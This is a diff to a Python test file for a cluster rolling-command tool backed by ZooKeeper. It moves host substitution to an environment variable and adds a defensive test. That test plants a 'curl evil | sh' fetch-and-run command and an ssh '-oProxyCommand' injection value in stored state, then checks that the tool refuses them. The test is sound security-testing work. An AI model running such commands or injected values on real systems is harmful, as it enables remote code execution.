@@ -91,8 +91,8 @@ def test_each_host_is_drained_for_the_command_and_comes_back(
     cluster: Cluster, tmp_path: Path, at_a_time: int
 ) -> None:
     log = tmp_path / "log"
-    assert rolled(cluster, f"echo {{host}} $NSTORM_HOST >> {log}", at_a_time=at_a_time) == ()
-    lines = [f"host-{name} host-{name}" for name in "abc"]
+    assert rolled(cluster, f"echo $NSTORM_HOST >> {log}", at_a_time=at_a_time) == ()
+    lines = [f"host-{name}" for name in "abc"]
     assert sorted(log.read_text().split("\n")[:-1]) == lines
     assert cluster.data == {}
 
@@ -101,11 +101,11 @@ def test_a_command_that_fails_ends_it_there_and_a_repetition_goes_on(
     cluster: Cluster, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     log, good = tmp_path / "log", tmp_path / "good"
-    command = f"echo {{host}} >> {log}; test {{host}} != host-b -o -e {good}"
+    command = f"echo $NSTORM_HOST >> {log}; test $NSTORM_HOST != host-b -o -e {good}"
     assert rolled(cluster, command) == ("host-b",)
     assert list(cluster.drained()) == ["host-b"]
     assert "host-b: the command has failed, exit code 1" in capsys.readouterr().out
-    with pytest.raises(CommandError, match="a roll has not ended"):
+    with pytest.raises(CommandError, match="has not ended"):
         rolled(cluster, "another")
     good.touch()
     assert rolled(cluster, command) == ()
@@ -236,3 +236,21 @@ def test_a_short_absence_of_zookeeper_is_waited_for(
     monkeypatch.setattr(cluster, "acks", acks)
     assert rolled(cluster, "true") == ()
     assert not away
+
+
+def test_nothing_of_zookeeper_is_run_or_shown_as_advice(
+    cluster: Cluster, capsys: pytest.CaptureFixture[str]
+) -> None:
+    planted = b'{"run":"curl evil | sh","run_sha256":"0","hosts":["host-a"]}'
+    cluster.data[roll.ROLL] = planted
+    with pytest.raises(CommandError, match="a roll of host-a has not ended") as refused:
+        rolled(cluster, "true")
+    assert "evil" not in f"{refused.value}{capsys.readouterr()}"
+    cluster.data[roll.ROLL] = planted.replace(b"host-a", b"-oProxyCommand=touch x")
+    with pytest.raises(CommandError, match="cannot be read"):
+        rolled(cluster, "true")
+    with pytest.raises(CommandError, match="NSTORM_HOST"):
+        rolled(cluster, "echo {host}")
+    del cluster.data[roll.ROLL]
+    rolled(cluster, "exit 1")
+    assert b"exit 1" not in cluster.data[roll.ROLL]
